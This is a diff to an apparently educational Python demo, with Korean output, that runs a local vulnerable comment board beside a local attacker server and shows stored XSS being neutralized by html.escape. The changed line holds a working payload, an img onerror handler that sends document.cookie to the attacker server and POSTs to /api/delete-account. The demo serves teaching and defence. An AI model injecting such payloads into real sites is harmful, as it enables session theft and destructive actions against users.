@@ -69,8 +69,7 @@ def attacker_app(environ, start_response):
 with wsgi_server(board_app) as (host, port), wsgi_server(attacker_app) as (_, evil_port):
     board, evil = f"http://{host}:{port}", f"http://{host}:{evil_port}"
     payload = (
-        f"<img src=x onerror=\"new Image().src='{evil}/?'+document.cookie;"
-        "fetch('/api/delete-account',{method:'POST'})\">"
+        f"<img src=x onerror=\"fetch('{evil}/?'+document.cookie);fetch('/api/delete-account',{{method:'POST'}})\">"
     )
     print(f"공격자가 남긴 댓글: {payload}")
     urllib.request.urlopen(urllib.request.Request(f"{board}/comments", payload.encode()), timeout=5).close()
@@ -112,7 +111,7 @@ with wsgi_server(board_app) as (host, port), wsgi_server(attacker_app) as (_, ev
         tab.goto(f"{board}/search?safe=1&q={quote(payload)}")
         escaped = tab.evaluate("[document.querySelectorAll('img').length, document.querySelector('p').textContent]")
         print(f"   이스케이프 없이: 공격자 서버가 받은 값 {STOLEN}")
-        print(f"   html.escape 후: img 요소 {escaped[0]}개, 글자로 보임 → {escaped[1][:40]}…")
+        print(f"   html.escape 후: img 요소 {escaped[0]}개, 글자로 보임 → {escaped[1][:31]}…")
         assert STOLEN == ["theme=dark"] and escaped[0] == 0 and escaped[1] == f"검색어: {payload}"
 
         print("\n④ 받은 문자열을 DOM에 넣는 세 가지 방법")
